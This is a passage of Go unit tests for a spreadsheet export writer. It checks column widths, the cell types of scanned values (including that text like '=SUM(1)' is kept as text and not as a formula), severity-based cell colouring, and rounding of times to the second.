		{Label: "Observed", Kind: Time},     // a date-time and a margin
		{Label: "Count", Kind: Number},
		{Label: "Note"},
		{Label: "Browser", Width: 30},
		{Label: "A label longer than its column", Width: 10},
		{Label: "Überschrift", Width: 5}, // 11 characters in 12 bytes
		{Label: "Huge", Width: 400},
	}
	names := make([]string, len(cols))
	for i := range names {
		names[i] = fmt.Sprintf("c%d", i)
	}
	f := mustWriteXLSX(t, Workbook{Sheets: []Sheet{{Name: "Widths", Columns: cols, Rows: newRows(names)}}}, excelize.TotalRows)
	var got []float64
	for i := range cols {
		col, _ := excelize.ColumnNumberToName(i + 1)
		w, err := f.GetColWidth("Widths", col)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, w)
	}
	if diff := cmp.Diff([]float64{12, 25, 12, 24, 30, 34, 15, 255}, got); diff != "" {
		t.Errorf("column widths (-want +got):\n%s", diff)
	}
}

// Values a query scans that a cell cannot hold as they are: a bool reads as
// in the CSV, a FLOAT's float32 is a number, a BLOB's []byte and a value of
// any other type are text (never an empty cell, never a formula).
func TestWriteXLSXScannedTypes(t *testing.T) {
	cols := []Column{{Label: "True"}, {Label: "False"}, {Label: "Ratio", Kind: Number}, {Label: "Count", Kind: Number}, {Label: "Raw"}, {Label: "Other"}}
	rows := newRows([]string{"t", "f", "ratio", "count", "raw", "other"},
		[]any{true, false, float32(1.5), -3, []byte("=SUM(1)"), 90 * time.Second})
	f := mustWriteXLSX(t, Workbook{Sheets: []Sheet{{Name: "Values", Columns: cols, Rows: rows}}}, excelize.TotalRows)
	type cell struct {
		Value string
		Type  excelize.CellType
	}
	var got []cell
	for _, ref := range []string{"A2", "B2", "C2", "D2", "E2", "F2"} {
		typ, err := f.GetCellType("Values", ref)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, cell{mustCellValue(t, f, "Values", ref), typ})
		if formula, _ := f.GetCellFormula("Values", ref); formula != "" {
			t.Errorf("%s: got formula %q, want none", ref, formula)
		}
	}
	text, number := excelize.CellTypeInlineString, excelize.CellTypeUnset // a number cell has no type attribute
	want := []cell{{"true", text}, {"false", text}, {"1.5", number}, {"-3", number}, {"=SUM(1)", text}, {"1m30s", text}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("row 2 (-want +got):\n%s", diff)
	}
}

// A severity column colours a severity however it is written, and nothing
// else; a severity word in another column is plain text.
func TestWriteXLSXSeverityStyles(t *testing.T) {
	cols := []Column{{Label: "Severity", Kind: Severity}, {Label: "Note"}}
	rows := newRows([]string{"severity", "note"},
		[]any{"High ", "high"},
		[]any{"CRITICAL", "critical"},
		[]any{"urgent", "low"},
	)
	f := mustWriteXLSX(t, Workbook{Sheets: []Sheet{{Name: "Findings", Columns: cols, Rows: rows}}}, excelize.TotalRows)
	got := map[string][]string{}
	for _, ref := range []string{"A2", "B2", "A3", "B3", "A4", "B4"} {
		got[ref] = mustCellStyle(t, f, "Findings", ref).Fill.Color
	}
	want := map[string][]string{
		"A2": {severityColours["high"].fill}, "B2": nil,
		"A3": {severityColours["critical"].fill}, "B3": nil,
		"A4": nil, "B4": nil,
	}
	if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("fills (-want +got):\n%s", diff)
	}
}

// Times are written to the second, as the CSV reports and the text summary
// write them. A spreadsheet rounds the seconds it shows, so a time of
// 23:59:59.6 written whole would read as the next day's 00:00:00 in the
// workbook and as the day before in findings.csv.
func TestWriteXLSXTimesToTheSecond(t *testing.T) {
	late := time.Date(2026, 2, 28, 23, 59, 59, 600_000_000, time.UTC)
	wb := Workbook{Summary: sampleSummary(), Sheets: []Sheet{{Name: "Times", Columns: []Column{{Label: "Observed", Kind: Time}},
		Rows: newRows([]string{"observed"}, []any{late}, []any{late.In(time.FixedZone("CET", 3600))})}}}
	wb.Summary.AsOf = late
	f := mustWriteXLSX(t, wb, excelize.TotalRows)
	want := time.Date(2026, 2, 28, 23, 59, 59, 0, time.UTC)
	for _, c := range []struct{ sheet, cell string }{{"Times", "A2"}, {"Times", "A3"}, {summarySheet, "B3"}} {
		raw, err := f.GetCellValue(c.sheet, c.cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		serial, err := strconv.ParseFloat(raw, 64)
		if err != nil {
			t.Fatalf("%s!%s: got raw value %q, want a serial number", c.sheet, c.cell, raw)
		}
		if got, err := excelize.ExcelDateToTime(serial, false); err != nil || !got.Round(time.Millisecond).Equal(want) {
			t.Errorf("%s!%s: got %v (err %v), want %v", c.sheet, c.cell, got, err, want)
		}
		if got := mustCellValue(t, f, c.sheet, c.cell); got != "2026-02-28 23:59:59 UTC" {
			t.Errorf("%s!%s: got shown value %q, want 2026-02-28 23:59:59 UTC", c.sheet, c.cell, got)
		}
	}
}
